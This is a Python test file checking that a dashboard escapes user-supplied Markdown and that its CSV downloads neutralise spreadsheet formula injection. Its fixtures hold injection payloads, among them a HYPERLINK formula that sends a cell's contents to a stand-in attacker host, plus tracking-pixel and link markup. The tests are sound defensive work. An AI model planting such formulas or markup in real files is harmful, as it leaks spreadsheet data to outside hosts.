"""What people type reaches other people's screens and files as text: names, team names, tool names and
notes are escaped wherever the dashboard renders Markdown, and every CSV it offers (tables, the admin
people list, ``payoff metrics``) writes text that a spreadsheet would run as a formula as plain text."""

import csv
import io

import pandas as pd
from markdown_it import MarkdownIt
from sqlalchemy import update
from typer.testing import CliRunner

from payoff.app import csv_writer, loaders, ui
from payoff.app.access import viewer_for
from payoff.app.cli import cli
from payoff.store import db, self_service
from payoff.store.models import AIUsageDaily, Person
from tests.app.conftest import TODAY, oidc_app

FORMULA = '=HYPERLINK("https://evil.test/?"&A1,"click")'
MARKUP = "![pixel](https://evil.test/p.png) [site](https://evil.test) **loud** :red[alarm] www.evil.test"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def inject(url: str, ids: dict[str, int]) -> None:
    with db.session(url) as s:
        s.execute(update(Person).where(Person.email == "eve@acme.test").values(name=f"{FORMULA} {MARKUP}"))
        s.execute(
            update(AIUsageDaily).where(AIUsageDaily.identity_id == "import:eve@acme.test").values(tool="-2+3 " + MARKUP)
        )
        self_service.add_signal_note(
            s, person_id=ids["eve@acme.test"], month="2026-01", signal="any", note="@SUM(A1:A9)"
        )


def live_markup(at) -> list[str]:
    """What still links, loads an image or shouts in the page's Markdown once rendered, and what Streamlit's
    own extensions would still act on in its source (a :red[…] directive, a bare www. link)."""
    found = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "info", "warning", "error", "success"):
        for element in getattr(at, kind):
            html = MarkdownIt("commonmark").render(str(element.value))
            found += [part for part in ("<img", "<a ", "<strong>loud") if part in html]
            found += [part for part in (":red[", "www.evil.test") if part in str(element.value)]
    return found


def test_names_and_tool_names_are_text_on_every_page_that_shows_them(org, sqlite_url):
    inject(sqlite_url, org)
    own = oidc_app("eve@acme.test").run()  # sidebar name, tools caption
    assert not own.exception and live_markup(own) == []
    assert any("pixel" in m.value for m in own.markdown) and any("alarm" in c.value for c in own.caption)
    manager = oidc_app("mia@acme.test")
    manager.query_params["person"] = str(org["eve@acme.test"])
    manager.run().switch_page("views/team.py").run()  # the drilled-into report's name as the header
    assert not manager.exception and live_markup(manager) == []
    assert any("pixel" in h.value for h in manager.header)


def test_every_csv_download_writes_formulas_as_text(org, sqlite_url):
    inject(sqlite_url, org)
    with db.session(sqlite_url) as s:
        admin = viewer_for(s, "ada@acme.test")
    people = csv_writer.frame_csv(ui.flat(loaders.admin_people(admin).drop(columns="id")))  # as Admin offers it
    result = CliRunner().invoke(
        cli, ["metrics", "--month", ui.months(today=TODAY)[1], "--by", "person", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    for data in (people.decode(), result.stdout):
        cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
        assert any(FORMULA in cell for cell in cells)
        assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    numbers = csv_writer.frame_csv(pd.DataFrame({"delta": [-2.5], "note": ["-2.5"]}))
    assert numbers.decode().splitlines()[1] == "-2.5,'-2.5"  # a number stays a number; only text is guarded
